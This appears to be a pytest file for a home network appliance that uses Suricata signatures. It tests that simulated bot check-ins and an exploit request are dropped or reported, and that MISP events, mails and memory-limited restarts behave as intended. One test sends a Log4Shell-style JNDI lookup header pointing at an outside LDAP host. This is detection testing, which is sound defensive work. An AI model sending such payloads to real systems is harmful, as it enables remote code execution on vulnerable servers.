"""Signatures beyond listed values, end to end on real Suricata: the lab's ruleset
in ET Open's layout (tests/data/lab-rules) taken through Debian's suricata-update,
cut to the home profile, and a device's traffic to a server nobody listed."""

import email
import email.policy
import json
import os
import threading
import time
from pathlib import Path

from conftest import wait_for
from test_lab import misp_admin

FRESH = "203.0.113.90"  # a server in no list, no feed, no MISP event
CHECKIN = 2999101  # ET MALWARE … CnC Checkin, Major: drops by default
BEACON = 2999102  # ET MALWARE … beacon, Minor: reported only
JNDI = 2999201  # ET EXPLOIT … JNDI, Critical: drops by default
SERVER = 2999301  # ET WEB_SERVER: not in the home profile


def curl(lab, *args):
    """The HTTP status a device in iot gets, or "000" when nothing answers (dropped)."""
    r = lab.ns("iot", "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "3", *args, timeout=10)
    return r.stdout.strip()


def check_in(lab, source="198.18.1.2"):
    # A bot's check-in to a fresh domain: the name resolves to a server nobody listed.
    return curl(lab, "--interface", source, "--resolve", f"update.lab-fresh.test:80:{FRESH}",
                "-A", "hwlab-bot", "-d", "id=cam", "http://update.lab-fresh.test/gate.php")


def incident(lab, sid):
    return next((i for i in lab.status()["alerts"]["recent"] if i["sid"] == sid), None)


def test_the_ruleset_is_taken_offline_and_cut_to_the_home_profile(lab):
    sig = json.loads(lab.agent("signatures", "status", "--json").stdout)
    good = sig["record"]["good"]
    assert sig["tier"] == "home" and good["tier"] == "home", sig
    # The check-in and the exploit drop, the beacon reports; web_server and
    # policy are left out, as is the rule the ruleset ships disabled.
    assert (good["counts"]["dropping"], good["counts"]["alerting"]) == (2, 1), good
    assert sig["record"]["last_attempt"]["error"] is None and sig["reload_error"] is None, sig
    out = lab.agent("explain", str(SERVER)).stdout
    assert "is not loaded: its category is not in the home profile" in out, out
    out = lab.agent("status").stdout
    assert "signatures: home profile, 2 dropping, 1 alerting, taken " in out, out


def test_a_check_in_and_an_exploit_to_an_unlisted_server_are_dropped_by_signatures(lab):
    assert curl(lab, f"http://{FRESH}/") == "200", "the server itself is not blocked"
    assert check_in(lab) == "000"
    assert curl(lab, "-H", "X-Api-Version: ${jndi:ldap://" + FRESH + "/a}", f"http://{FRESH}/") == "000"
    assert curl(lab, f"http://{FRESH}/") == "200", "the next plain request passes again"
    assert wait_for(lambda: incident(lab, CHECKIN) and incident(lab, JNDI), 10), lab.status()["alerts"]
    for sid, severity in [(CHECKIN, "Major"), (JNDI, "Critical")]:
        inc = incident(lab, sid)
        assert inc["blocked"] and inc["high"] and not inc["listed"], inc
        assert inc["signature_severity"] == severity and inc["local"] == "198.18.1.2", inc
        assert inc["remote"] == FRESH, inc
    # One incident per signature, device and destination: more attempts count into it.
    assert check_in(lab) == "000"
    assert wait_for(lambda: incident(lab, CHECKIN)["count"] >= 2, 10)
    assert sum(1 for i in lab.status()["alerts"]["recent"] if i["sid"] == CHECKIN) == 1
    # `blocks` names the signature beside the listed values.
    blocks = lab.agent("blocks").stdout
    assert f"signature {CHECKIN}: `homewarden explain {CHECKIN}`" in blocks, blocks
    out = lab.agent("explain", str(CHECKIN)).stdout
    assert "ET MALWARE homewarden lab bot CnC Checkin" in out and "drops the traffic it matches" in out, out
    assert f"`homewarden signatures alert {CHECKIN}` to only report it" in out, out


def test_a_signatures_high_incident_becomes_a_misp_event_and_a_mail(lab):
    assert check_in(lab) == "000"

    def events():
        return [json.loads(line) for line in misp_admin(lab, "events").splitlines()
                if "CnC Checkin" in json.loads(line)["info"]]

    assert wait_for(lambda: len(events()) == 1, 20), misp_admin(lab, "events")
    ev = events()[0]
    # ET's rating as the threat level; the server is context, not an indicator of ours.
    assert ev["threat_level_id"] == 1 and "tlp:amber" in ev["tags"], ev
    assert ["ip-dst", FRESH, False] in ev["attributes"], ev
    assert ["ip-src", "198.18.1.2", False] in ev["attributes"], ev

    def mails():
        out = []
        for eml in (lab.dir / "mail").glob("*.eml"):
            msg = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
            if "CnC Checkin" in msg.get_body(("plain",)).get_content():
                out.append(msg)
        return out

    assert wait_for(lambda: len(mails()) == 1, 30)
    text = mails()[0].get_body(("plain",)).get_content()
    assert f"sid {CHECKIN}, rated Major by its ruleset (homewarden explain {CHECKIN})" in text, text
    assert "[llm-double reply to " in text, text
    prompts = (lab.dir / "llm-requests.jsonl").read_text()
    assert f"Signature: sid {CHECKIN} of the appliance's ruleset" in prompts


def test_an_alert_only_signature_passes_and_is_reported_without_a_page(lab):
    assert curl(lab, f"http://{FRESH}/hwlab-beacon") == "404", "passed to the server"
    assert wait_for(lambda: incident(lab, BEACON) is not None, 10)
    inc = incident(lab, BEACON)
    assert not inc["blocked"] and not inc["high"] and inc["signature_severity"] == "Minor", inc
    # Reported, not mailed: Minor is not a page.
    for eml in (lab.dir / "mail").glob("*.eml"):
        assert "hwlab-beacon" not in eml.read_text(errors="replace")
        assert "suspicious beacon" not in eml.read_text(errors="replace")


def test_the_owner_turns_a_drop_into_an_alert_and_back_live(lab):
    out = lab.agent("signatures", "alert", str(CHECKIN)).stdout
    assert f"{CHECKIN}: alert (kept until" in out and "reports what it matches and lets it pass" in out, out
    before = incident(lab, CHECKIN)["count"]
    # http.server answers a POST with 501: the request reached it.
    assert wait_for(lambda: check_in(lab) == "501", 10)
    assert wait_for(lambda: incident(lab, CHECKIN)["count"] > before, 10), "still reported"
    status = lab.agent("signatures", "status").stdout
    assert f"your word: {CHECKIN} alert" in status, status
    out = lab.agent("signatures", "reset", str(CHECKIN)).stdout
    assert "reset" in out and "in force now: 2 dropping, 1 alerting" in out, out
    assert wait_for(lambda: check_in(lab) == "000", 10)
    # The word survives an agent restart (kept in the state, not the config).
    lab.agent("signatures", "disable", str(BEACON))
    lab.restart_agent("agent-after-disable.log")
    status = lab.agent("signatures", "status").stdout
    assert f"your word: {BEACON} disable" in status, status
    assert "not loaded" in lab.agent("explain", str(BEACON)).stdout
    lab.agent("signatures", "reset", str(BEACON))


def test_a_signature_is_lifted_for_one_device_and_still_drops_for_the_others(lab):
    other = "198.18.1.3"
    assert check_in(lab, other) == "000" and check_in(lab) == "000"
    out = lab.agent("signatures", "allow", str(CHECKIN), other).stdout
    assert f"{CHECKIN} for {other}/32: lifted" in out, out
    assert f"lifted for {other}/32" in out and f"signatures unallow {CHECKIN} {other}/32" in out, out
    # That device's check-in passes; the first device's is still dropped.
    assert wait_for(lambda: check_in(lab, other) == "501", 10)
    assert check_in(lab) == "000"
    out = lab.agent("signatures", "unallow", str(CHECKIN), other).stdout
    assert "no longer lifted" in out, out
    assert wait_for(lambda: check_in(lab, other) == "000", 10)
    assert "lifted for" not in lab.agent("explain", str(CHECKIN)).stdout


def test_a_ruleset_that_fits_once_not_twice_in_suricatas_budget_goes_in_by_a_restart(lab):
    """Suricata's cgroup (as its unit's MemoryMax= makes one) gets room for one
    engine, not two: a live reload would build the second beside the first.
    The owner's word cuts the ruleset again, and the agent shuts Suricata down
    for its unit to start it again (Restart=always, played here by a watcher)
    instead of reloading live. Nothing is OOM-killed; the signatures hold after."""
    cgroup = Path((lab.dir / "suricata-cgroup").read_text().strip())
    assert cgroup.is_dir(), "the lab puts Suricata in a memory cgroup of its own"
    sig = json.loads(lab.agent("signatures", "status", "--json").stdout)
    mem, peak = sig["suricata_memory"], sig["record"]["good"]["test_peak"]
    assert mem and mem["limit"] is None and mem["current"] > 0 and peak > 0, sig
    v1 = (cgroup / "memory.limit_in_bytes").exists()
    limit_file = cgroup / ("memory.limit_in_bytes" if v1 else "memory.max")
    events = cgroup / ("memory.oom_control" if v1 else "memory.events")

    def oom_kills():
        line = next((x for x in events.read_text().splitlines() if x.startswith("oom_kill ")), "oom_kill 0")
        return int(line.split()[1])

    kills_before = oom_kills()
    limit_file.write_text(str(mem["current"] + peak // 2))
    status = lab.agent("signatures", "status").stdout
    assert f"MiB budget; the ruleset in force took {peak >> 20} MiB to load, by live reload" in status, status

    old = lab.suricata_pid()
    stop, restarts = threading.Event(), []

    def gone():
        try:
            pid = lab.suricata_pid()
            return Path(f"/proc/{pid}/status").read_text().find("State:\tZ") >= 0
        except (FileNotFoundError, ValueError):
            return True

    def unit():  # Restart=always: started again when it exits
        while not stop.is_set():
            if gone() and not stop.is_set():
                restarts.append(time.monotonic())
                lab.run("restart-suricata")
            time.sleep(0.2)

    watcher = threading.Thread(target=unit, daemon=True)
    watcher.start()
    try:
        out = lab.agent("signatures", "disable", str(BEACON)).stdout
        assert "in force now: 2 dropping, 0 alerting" in out, out
        sig = json.loads(lab.agent("signatures", "status", "--json").stdout)
        assert sig["record"]["good"]["way"] == "restart" and sig["reload_error"] is None, sig
        assert len(restarts) == 1 and lab.suricata_pid() != old, restarts
        assert oom_kills() == kills_before, events.read_text()
        assert wait_for(lambda: lab.status()["state"] == "protected", 60), lab.status()["reasons"]
        # The new Suricata runs the new cut, the IoC sets and the budget.
        assert check_in(lab) == "000"
        assert curl(lab, f"http://{FRESH}/hwlab-beacon") == "404", "disabled: not even reported"
        assert lab.http_ok("203.0.113.80")
        mem = json.loads(lab.agent("signatures", "status", "--json").stdout)["suricata_memory"]
        assert mem["limit"] is not None and mem["current"] <= mem["limit"], mem
    finally:
        stop.set()
        watcher.join(timeout=60)
        limit_file.write_text("-1" if v1 else "max")
    # No budget in the way: the word's reset goes in live, Suricata stays.
    pid = lab.suricata_pid()
    lab.agent("signatures", "reset", str(BEACON))
    sig = json.loads(lab.agent("signatures", "status", "--json").stdout)
    assert sig["record"]["good"]["way"] == "live" and lab.suricata_pid() == pid, sig
